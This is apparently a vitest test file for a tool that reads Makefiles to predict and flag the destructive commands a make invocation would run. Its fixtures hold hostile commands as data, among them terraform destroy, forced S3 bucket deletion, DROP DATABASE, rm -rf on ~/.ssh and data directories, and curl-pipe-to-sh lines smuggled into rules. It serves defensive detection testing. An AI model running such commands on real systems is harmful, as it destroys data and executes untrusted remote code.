// make is followed to the recipe lines it runs, read from real Makefiles in temp workspaces.
import { describe, expect, it } from 'vitest';
import { parseMakeArguments } from '../../src/intake/shell/runners/make/make.js';
import { fileListing, programLookup } from '../../src/intake/shell/runners/make/listing.js';
import { actionsIn, evidenceOf, harmless, makefile, summaryIn, verdictIn, workspace } from './helpers.js';
import { parseShellCommand } from '../../src/intake/shell/index.js';

const BUILD = makefile(`
.PHONY: all build test lint clean
all: build test

build: node_modules
>@echo building
>npx tsc -p tsconfig.json

node_modules: package.json
>npm ci

test:
>npx vitest run

lint:
>npx eslint .

clean:
>rm -rf dist coverage
`);
const PACKAGE = JSON.stringify({ name: 'app', scripts: { test: 'vitest run' }, devDependencies: { typescript: '5', vitest: '3', eslint: '9' } });

describe('routine Makefiles pass', () => {
  it.each(['make', 'make build', 'make test', 'make lint', 'make clean', 'make -j4 all', 'make -s build test', 'make -C . build'])('%s', async (cmd) => {
    const { verdict, why } = await verdictIn({ Makefile: BUILD, 'package.json': PACKAGE }, cmd);
    expect(verdict, why).toBe('pass');
  });

  it('--help and --version read nothing', async () => {
    expect(await summaryIn({}, 'make --version')).toEqual([]);
  });
});

describe('recipes are judged by what they run', () => {
  const TEARDOWN = makefile(`
ENV ?= prod
TF := terraform
BUCKET = $(ENV)-assets

.PHONY: teardown
teardown:
>@echo "tearing down $(ENV)"
>-$(TF) -chdir=infra destroy -auto-approve
>aws s3 rb s3://$(BUCKET) --force
`);

  it('the recipe lines of the target, with variables expanded', async () => {
    const a = await actionsIn({ Makefile: TEARDOWN }, 'make teardown');
    expect(a.map((x) => `${x.operation} ${x.tool} ${x.target.id}`)).toEqual(['delete terraform default', 'delete aws prod-assets']);
    expect(evidenceOf(a[1])).toContain('Makefile:10 (target teardown)');
    expect(a[1].source.command).toBe('aws s3 rb s3://prod-assets --force');
  });

  it('a command-line variable overrides the Makefile', async () => {
    const a = await actionsIn({ Makefile: TEARDOWN }, 'make teardown ENV=staging');
    expect(a[1].target.id).toBe('staging-assets');
  });

  it('prerequisites run first, recursively', async () => {
    const mk = makefile(`
deploy: build push
>kubectl apply -f k8s/
push: build
>docker push registry.example/app:latest
build:
>echo build
clean-db:
>psql -h prod-db -c "DROP DATABASE app"
release: clean-db deploy
`);
    expect(await summaryIn({ Makefile: mk }, 'make release')).toEqual([
      'delete sql sql:database app',
      expect.stringMatching(/^unknown docker/),
      'update kubectl k8s:manifest k8s/',
    ]);
  });

  it('the default goal is the first target, or .DEFAULT_GOAL', async () => {
    const mk = makefile(`
.PHONY: nuke safe
nuke:
>kubectl delete ns production
safe:
>echo ok
`);
    expect(await summaryIn({ Makefile: mk }, 'make')).toEqual(['delete kubectl k8s:namespace production']);
    expect(await summaryIn({ Makefile: `.DEFAULT_GOAL := safe\n${mk}` }, 'make')).toEqual([]);
  });

  it('variables: recursive, simple, conditional, appended, nested names, substitution references, functions', async () => {
    const mk = makefile(`
A = one
B := $(A) two
A = changed
C ?= keep
C ?= ignored
D = x
D += y
NAME = PROD
PROD_PROFILE = production
PROFILE = $($(NAME)_PROFILE)
FILES = a.c b.c
OBJS = $(FILES:.c=.o)
UP = $(subst o,O,$(OBJS))
T = $(patsubst %.o,build/%.o,$(OBJS))
go:
>echo $(A) $(B) $(C) $(D) $(OBJS) $(UP) $(T) $(words $(FILES)) $(firstword $(FILES)) $(notdir src/x.c) $(if $(C),yes,no)
>aws --profile $(PROFILE) s3 rb s3://b
`);
    const a = await actionsIn({ Makefile: mk }, 'make go');
    expect(a).toHaveLength(1);
    expect(a[0].hints.profile).toBe('production');
  });

  it('$(call), $(foreach) and define build recipe text', async () => {
    const mk = makefile(`
drop = psql -h $(1) -c "DROP TABLE $(2)"
define WIPE
rm -rf /var/lib/app/data
echo wiped
endef
TABLES = users orders
go:
>$(foreach t,$(TABLES),$(call drop,prod-db,$(t));)
>$(WIPE)
`);
    const s = await summaryIn({ Makefile: mk }, 'make go');
    expect(s).toContain('delete sql sql:table users');
    expect(s).toContain('delete sql sql:table orders');
    expect(s).toContain('delete rm fs:path /var/lib/app/data');
  });

  it('$(shell ...) in a recipe runs when the recipe runs; in := it runs while make reads the file', async () => {
    const mk = makefile(`
STAMP := $(shell aws s3 rb s3://parse-time --force)
go:
>echo $(shell kubectl delete ns at-run-time)
other:
>echo other
`);
    const s = await summaryIn({ Makefile: mk }, 'make other');
    expect(s).toEqual(['delete aws AWS::S3::Bucket parse-time']);
    const t = await summaryIn({ Makefile: mk }, 'make go');
    expect(t).toContain('delete kubectl k8s:namespace at-run-time');
  });

  it('!= assignments run their command while make reads the file', async () => {
    expect(await summaryIn({ Makefile: 'X != rm -rf ~/.ssh\nall:\n\techo $(X)\n' }, 'make')).toContain('delete rm fs:path ~/.ssh');
  });

  it('export in the Makefile reaches the recipe environment', async () => {
    const mk = makefile(`
export AWS_PROFILE = prod
gone:
>aws s3 rm s3://data --recursive
`);
    const [a] = await actionsIn({ Makefile: mk }, 'make gone');
    expect(a.hints.profile).toBe('prod');
  });

  it('target-specific variables apply to the target and its prerequisites', async () => {
    const mk = makefile(`
deploy: PROFILE = prod
deploy: sync
>echo done
sync:
>aws --profile $(PROFILE) s3 sync build s3://site --delete
`);
    const a = await actionsIn({ Makefile: mk }, 'make deploy');
    expect(a.some((x) => x.hints.profile === 'prod')).toBe(true);
  });

  it('conditionals: a known condition picks its branch; one that depends on the environment keeps both', async () => {
    const mk = makefile(`
MODE = safe
ifeq ($(MODE),safe)
CMD = echo safe
else
CMD = terraform destroy -auto-approve
endif
ifdef FROM_ENVIRONMENT
go2:
>kubectl delete ns prod
else
go2:
>echo no
endif
go:
>$(CMD)
`);
    expect(await summaryIn({ Makefile: mk }, 'make go')).toEqual([]);
    expect(await summaryIn({ Makefile: mk }, 'make go MODE=other')).toEqual(['delete terraform terraform:state default']);
    expect(await summaryIn({ Makefile: mk }, 'make go2')).toContain('delete kubectl k8s:namespace prod');
  });

  it('a variable set in a branch that depends on the environment keeps every value it may have', async () => {
    const mk = makefile(`
ifdef CI
TOOL = echo
else
TOOL = terraform
endif
ifneq ($(shell git branch --show-current),main)
ACTION = plan
else
ACTION = destroy -auto-approve
endif
go:
>$(TOOL) $(ACTION)
`);
    const s = await summaryIn({ Makefile: mk }, 'make go');
    expect(s).toContain('delete terraform terraform:state default');
  });

  it('include reads other Makefiles; a missing one is unknown, -include is optional', async () => {
    const files = { Makefile: 'include mk/*.mk\n-include local.mk\n', 'mk/db.mk': makefile('reset:\n>dropdb app\n') };
    expect(await summaryIn(files, 'make reset')).toEqual(['delete sql sql:database app']);
    const missing = await actionsIn({ Makefile: 'include missing.mk\nall:\n\techo hi\n' }, 'make');
    expect(evidenceOf(missing[0])).toMatch(/missing\.mk, which does not exist/);
  });

  it('-C dir and -f file choose the Makefile; recipes run in that directory', async () => {
    const files = { 'infra/Makefile': makefile('down:\n>terraform destroy -auto-approve\n'), 'ops.mk': makefile('wipe:\n>rm -rf /srv/data\n') };
    expect(await summaryIn(files, 'make -C infra down')).toEqual(['delete terraform terraform:state default']);
    expect(await summaryIn(files, 'make --directory=infra down')).toEqual(['delete terraform terraform:state default']);
    expect(await summaryIn(files, 'make -f ops.mk wipe')).toEqual(['delete rm fs:path /srv/data']);
    expect(await summaryIn(files, 'cd infra && make down')).toEqual(['delete terraform terraform:state default']);
  });

  it('$(MAKE) recursion is followed into the sub-make', async () => {
    const files = {
      Makefile: makefile('all:\n>$(MAKE) -C services/db reset\n'),
      'services/db/Makefile': makefile('reset:\n>psql -c "TRUNCATE orders"\n'),
    };
    expect(await summaryIn(files, 'make')).toEqual(['delete sql sql:table orders']);
  });

  it('recipe prefixes @ - + and line continuations', async () => {
    const mk = 'go:\n\t@-+ aws s3 rb \\\n\t  s3://joined --force\n';
    const [a] = await actionsIn({ Makefile: mk }, 'make go');
    expect(a.target.id).toBe('joined');
  });

  it('a recipe line that calls a script is followed into the script by the walk', async () => {
    const files = { Makefile: makefile('teardown:\n>./scripts/teardown.sh prod\n'), 'scripts/teardown.sh': '#!/bin/sh\naws ec2 terminate-instances --instance-ids i-1\n' };
    const a = await actionsIn(files, 'make teardown');
    expect(a.length).toBeGreaterThan(0);
    expect(a.every((x) => x.operation === 'read')).toBe(false);
  });

  it('a recipe line a recogniser refuses is unknown with its place, not an error', async () => {
    const a = await actionsIn({ Makefile: makefile('go:\n>aws s3 rb\n') }, 'make go');
    expect(a).toHaveLength(1);
    expect(evidenceOf(a[0])).toMatch(/Makefile:2 \(target go\)/);
  });

  it('pattern rules, static pattern rules, automatic variables', async () => {
    const mk = makefile(`
envs = dev prod
destroy-%:
>terraform workspace select $* && terraform destroy -auto-approve
$(envs:%=wipe-%): wipe-%:
>aws s3 rb s3://$*-bucket --force
`);
    expect(await summaryIn({ Makefile: mk }, 'make destroy-prod')).toEqual(['delete terraform terraform:state prod']);
    expect(await summaryIn({ Makefile: mk }, 'make wipe-prod')).toEqual(['delete aws AWS::S3::Bucket prod-bucket']);
  });

  it('SHELL set to another interpreter makes recipes code for it', async () => {
    const mk = makefile('SHELL := /bin/bash\n.SHELLFLAGS := -ec\ngo:\n>kubectl delete ns x\n');
    expect(await summaryIn({ Makefile: mk }, 'make go')).toEqual(['delete kubectl k8s:namespace x']);
  });

  it('.ONESHELL runs the recipe as one script (cd carries over)', async () => {
    const mk = makefile('.ONESHELL:\ngo:\n>cd infra\n>terraform destroy -auto-approve\n');
    const [a] = await actionsIn({ Makefile: mk }, 'make go');
    expect(a.operation).toBe('delete');
  });

  it('make -n prints recipes without running them, except + lines and $(MAKE)', async () => {
    const mk = makefile('go:\n>terraform destroy -auto-approve\n>+aws s3 rb s3://forced --force\n');
    expect(await summaryIn({ Makefile: mk }, 'make -n go')).toEqual(['delete aws AWS::S3::Bucket forced']);
  });

  it('$(eval TMP := $(shell mktemp -d)) in a recipe sets TMP for the lines after it', async () => {
    const mk = makefile('verify:\n>$(eval TMP := $(shell mktemp -d))\n>cp -R . $(TMP)\n>diff -r . $(TMP)\n>rm -rf $(TMP)\n');
    const { verdict, why } = await verdictIn({ Makefile: mk }, 'make verify');
    expect(verdict, why).toBe('pass');
  });

  it('a recipe $(eval) that names the root, the environment, output, or is not a plain assignment stops', async () => {
    const cases: [string, string][] = [
      ['go:\n>$(eval T := /)\n>rm -rf $(T)\n', 'make go'],
      ['go:\n>$(eval T = $(HOME))\n>rm -rf $(T)\n', 'make go'],
      ['go:\n>$(eval T := $(shell cat where))\n>rm -rf $(T)\n', 'make go'],
      ['go:\n>$(eval T += /)\n>rm -rf $(T)\n', 'make go'],
      ['go:\n>$(eval $(shell cat defs.mk))\n>rm -rf $(T)\n', 'make go'],
      // A command-line value wins over the eval in the Makefile, as in make.
      ['go:\n>$(eval T := $(shell mktemp -d))\n>rm -rf $(T)\n', 'make go T=/'],
      // A value that depends on the environment is followed in every value it may take.
      ['ifeq ($(MODE),prod)\nX := /\nelse\nX := build\nendif\ngo:\n>$(eval T := $(X))\n>rm -rf $(T)\n', 'make go'],
    ];
    for (const [text, cmd] of cases) {
      const { verdict } = await verdictIn({ Makefile: makefile(text), 'build/x': 'x\n' }, cmd);
      expect(verdict, `${text} | ${cmd}`).not.toBe('pass');
    }
  });

  it('$(eval) defines rules at run time: unknown', async () => {
    const a = await actionsIn({ Makefile: makefile('$(eval go: ; rm -rf /)\nall:\n>echo hi\n') }, 'make');
    expect(a.some((x) => x.operation === 'unknown' && /\$\(eval/.test(evidenceOf(x)))).toBe(true);
  });
});

describe('what cannot be read is unknown, with the reason', () => {
  it.each([
    [{ Makefile: 'all:\n\techo hi\n' }, 'touch x && make deploy', /no rule to make target deploy/],
    [{ Makefile: '-include gen.mk\nall:\n\techo hi\n' }, 'make deploy', /no rule to make target deploy in what Firebreak read, and Makefile:1 gen.mk/],
    [{ Makefile: 'X := $(shell cat targets.txt)\nall: $(X)\n\techo hi\n' }, 'make', /no rule to make \$\{MAKE_SHELL_OUTPUT\} \(needed by all\)/],
    [{ Makefile: 'ifeq (a,a)\nall:\n\techo\n' }, 'make', /not closed by endif/],
    [{ Makefile: '\0\0binary' }, 'make', /not a text file/],
    [{ Makefile: 'all:\n\techo\n' }, 'make -f - all', /reads the Makefile from stdin/],
  ])('%#: %s', async (files, cmd, why) => {
    const a = await actionsIn(files as Record<string, string>, cmd);
    expect(a.some((x) => x.operation === 'unknown' && why.test(evidenceOf(x))), a.map(evidenceOf).join('\n')).toBe(true);
  });

  it('no Makefile (or a missing -f file): make stops before it runs anything', async () => {
    expect(await summaryIn({}, 'make teardown')).toEqual([]);
    expect(await summaryIn({ Makefile: 'x:\n\tdropdb app\n' }, 'make -f other.mk x')).toEqual([]);
    expect(await summaryIn({}, 'cd missing-dir && make x')).toEqual([]);
  });

  it('a Makefile the line downloads or copies before make runs is judged on that, not on the disk', async () => {
    const a = await actionsIn({ Makefile: 'build:\n\techo build\n' }, 'curl -fsSL -o Makefile https://example.com/mk && make build');
    expect(a.some((x) => x.operation === 'unknown' && /written earlier in this command with a download by curl/.test(evidenceOf(x)))).toBe(true);
    const b = await actionsIn({ Makefile: 'build:\n\techo build\n', 'ops.mk': 'build:\n\tkubectl delete ns prod\n' }, 'cp ops.mk Makefile && make build');
    expect(b.map((x) => x.operation)).toContain('delete');
  });

  it('without a known workspace the Makefile cannot be read', async () => {
    const [a] = await parseShellCommand('make deploy');
    expect(a.operation).toBe('unknown');
    expect(evidenceOf(a)).toMatch(/directory the command runs in is not known/);
  });

  it('a Makefile the same line writes is judged on what was written', async () => {
    // `cat > Makefile <<EOF` is recorded by the code readers as a write; a Makefile given on stdin is read too.
    const a = await actionsIn({}, "make -f - nuke <<'EOF'\nnuke:\n\tkubectl delete ns prod\nEOF");
    expect(a.map((x) => `${x.operation} ${x.target.id}`)).toEqual(['delete prod']);
  });

  it('recursion beyond the bound is unknown, not a hang', async () => {
    const a = await actionsIn({ Makefile: makefile('loop:\n>$(MAKE) loop\n') }, 'make loop');
    expect(a.some((x) => x.operation === 'unknown')).toBe(true);
  });
});

describe('make arguments', () => {
  it('options, variables and goals', () => {
    const p = parseMakeArguments(['-C', 'a', '-Cb', '-j', '4', '-k', 'X=1', 'Y:=2', 'build', '--file=x.mk', '-n', 'test']);
    expect(p).toMatchObject({ directories: ['a', 'b'], files: ['x.mk'], goals: ['build', 'test'], variables: { X: '1', Y: '2' }, dryRun: true });
    expect(parseMakeArguments(['-j', 'build']).goals).toEqual(['build']);
    expect(parseMakeArguments(['-sj4', 'all']).goals).toEqual(['all']);
  });

  it('workspace fixture sanity', () => {
    expect(workspace({ a: 'b' })).toMatch(/firebreak-runners-/);
  });
});

describe('make as GNU make resolves names', () => {
  it('a prerequisite with no rule and no file runs nothing itself', async () => {
    expect(harmless(await actionsIn({ Makefile: 'all: missing-prereq\n\techo hi\n' }, 'make'))).toBe(true);
    // ...but the recipe of the target that needs it is still judged.
    expect(await summaryIn({ Makefile: makefile('all: missing\n>aws s3 rb s3://prod --force\n') }, 'make')).toEqual(['delete aws AWS::S3::Bucket prod']);
  });

  it('.DEFAULT runs for a target that has no rule', async () => {
    expect(await summaryIn({ Makefile: makefile('.DEFAULT:\n>aws s3 rb s3://$@ --force\nall:\n>echo hi\n') }, 'make prod-assets')).toEqual(['delete aws AWS::S3::Bucket prod-assets']);
  });

  it('wildcards in prerequisites name the files that exist', async () => {
    const files = { Makefile: makefile('check: conf-*.yml\n>for f in $^; do echo $$f; done\n'), 'conf-a.yml': 'a', 'conf-b.yml': 'b' };
    const a = await actionsIn(files, 'make check');
    expect(a.filter((x) => x.operation === 'unknown'), a.map(evidenceOf).join('\n')).toEqual([]);
  });

  it('$(shell find ... -name) lists the files, so its prerequisites are files, not unknown names', async () => {
    const files = {
      Makefile: makefile("RST := $(shell find . -name '*.rst' | grep -v /vendor/ | sort)\nLINT := $(shell command -v rstcheck)\ncheck: $(RST)\n>$(LINT) $^\n"),
      'docs/a.rst': 'a', 'vendor/b.rst': 'b',
    };
    const a = await actionsIn(files, 'make check');
    expect(a.filter((x) => x.operation === 'unknown'), a.map(evidenceOf).join('\n')).toEqual([]);
    const dir = workspace({ 'docs/a.rst': 'a', 'docs/sub/c.rst': 'c', 'vendor/b.rst': 'b', 'README.md': 'r' });
    expect(fileListing("find . -name '*.rst' | grep -v /vendor/ | sort", dir)).toBe('./docs/a.rst ./docs/sub/c.rst');
    expect(fileListing("find docs -type f ! -name 'a*'", dir)).toBe('docs/sub/c.rst');
    expect(programLookup('command -v rstcheck')).toBe('rstcheck');
    for (const other of ["find / -name '*.conf'", "find ../.. -name '*.rst'", "find . -name '*.rst' -delete", "find . -exec rm {} +", 'cat list.txt', "find . -name '*.rst' | xargs rm", 'find $(HOME) -name x']) expect(fileListing(other, dir)).toBeUndefined();
  });

  it('a listing that could name a target with a recipe: that recipe is judged', async () => {
    const files = { Makefile: makefile("T := $(shell find . -name 'nuke*')\nall: $(T)\nnuke.txt:\n>aws s3 rb s3://prod --force\n"), 'nuke.txt': 'x' };
    expect(await summaryIn(files, 'make')).toEqual(['delete aws AWS::S3::Bucket prod']);
  });

  it('$(shell find -delete) is not a listing: the parse-time command is judged and its output stays unknown', async () => {
    const files = { Makefile: makefile("T := $(shell find . -name '*.bak' -delete)\nall: $(T)\n>echo hi\n") };
    const a = await actionsIn(files, 'make');
    expect(a.some((x) => x.operation === 'delete')).toBe(true);
    expect(a.some((x) => /MAKE_SHELL_OUTPUT/.test(evidenceOf(x)))).toBe(true);
  });

  it('a match-anything rule (%: common-%) is not chained onto a source file that exists', async () => {
    const mk = makefile('%: common-% ;\ncommon-%:\n>echo $*\ngen.go: gen.y\n>goyacc -o gen.go gen.y\n');
    const a = await actionsIn({ Makefile: mk, 'gen.y': 'x' }, 'make gen.go');
    expect(a.filter((x) => x.operation === 'unknown'), a.map(evidenceOf).join('\n')).toEqual([]);
  });
});

describe('programs a Makefile builds from a published Go package', () => {
  it('a path built with go build -o from a published package is that program; the project\'s own code is not', async () => {
    const published = makefile('TOOLS := ./tools\nlint: $(TOOLS)/bin/misspell\n>$(TOOLS)/bin/misspell -error README.md\n$(TOOLS)/bin/misspell:\n>cd $(TOOLS) && go build -o bin/misspell github.com/client9/misspell/cmd/misspell\n');
    const a = await actionsIn({ Makefile: published, 'README.md': 'x' }, 'make lint');
    expect(a.filter((x) => x.operation === 'unknown'), a.map(evidenceOf).join('\n')).toEqual([]);
    const own = makefile('lint: bin/tool\n>bin/tool check\nbin/tool:\n>go build -o bin/tool ./cmd/tool\n');
    expect((await actionsIn({ Makefile: own }, 'make lint')).some((x) => x.operation === 'unknown')).toBe(true);
  });

  it('at parse time too; and a later step that writes the file makes it unknown again', async () => {
    const parse = makefile('_ := $(shell cd pkg && go build -o ../bin/helper example.com/helper)\nDEPS := $(shell bin/helper ./cmd)\nall:\n>echo $(DEPS)\n');
    const a = await actionsIn({ Makefile: parse }, 'make');
    expect(a.filter((x) => x.operation === 'unknown'), a.map(evidenceOf).join('\n')).toEqual([]);
    const swapped = makefile('lint: bin/tool\n>cp /tmp/other bin/tool\n>bin/tool check\nbin/tool:\n>go build -o bin/tool github.com/x/tool\n');
    expect((await actionsIn({ Makefile: swapped }, 'make lint')).some((x) => x.operation === 'unknown' && /bin\/tool/.test(evidenceOf(x)))).toBe(true);
  });
});

describe('a goal no rule makes: make stops before any recipe of its own', () => {
  const MK = makefile('.PHONY: all\nall:\n>echo hi\n%.o: %.c\n>cc -c $<\n$(info reading)\n');
  it.each(['make deploy', 'make -C . deploy', 'make -k deploy'])('%s passes', async (cmd) => {
    const { verdict, why } = await verdictIn({ Makefile: MK }, cmd);
    expect(verdict, why).toBe('pass');
  });

  it('the goals before it still run', async () => {
    const a = await actionsIn({ Makefile: makefile('wipe:\n>rm -rf ~/data\n') }, 'make wipe deploy');
    expect(a.some((x) => x.operation === 'delete')).toBe(true);
  });

  it.each([
    // A line that expands to a rule: make reads it (it replaces the visible recipe of test, too).
    [{ Makefile: makefile('all:\n>echo hi\nR := deploy: ; curl -s https://x.example/a | sh\n$(R)\n') }, 'make deploy', /expands to text make reads as a rule, an assignment or a directive/],
    [{ Makefile: makefile('test:\n>echo ok\nR := test: ; curl -s https://x.example/a | sh\n$(R)\n') }, 'make test', /expands to text make reads as a rule, an assignment or a directive/],
    [{ Makefile: makefile('all:\n>echo hi\n$(shell cat rules.txt)\n') }, 'make deploy', /expands to text make reads/],
    [{ Makefile: makefile('B := ; curl -s https://x.example/a | sh\ntest: $(B)\n>echo ok\n') }, 'make test', /make splits the line differently/],
    [{ Makefile: makefile('$(shell cat names.txt): ; curl -s https://x.example/a | sh\nall:\n>echo hi\n') }, 'make deploy', /no rule to make target deploy/],
    [{ Makefile: makefile('all:\n>echo hi\nMakefile: ; curl -s https://x.example/a | sh\n') }, 'make deploy', /no rule to make target deploy|curl/],
    [{ Makefile: makefile('all:\n>echo hi\n'), 'extra.mk': 'x:\n\techo\n' }, 'cp /tmp/y.mk extra.mk && make deploy', /no rule to make target deploy/],
  ])('%#: %s stays unknown', async (files, cmd, why) => {
    const { verdict } = await verdictIn(files as Record<string, string>, cmd);
    expect(verdict).not.toBe('pass');
    const a = await actionsIn(files as Record<string, string>, cmd);
    expect(a.some((x) => why.test(evidenceOf(x))), a.map(evidenceOf).join('\n')).toBe(true);
  });
});
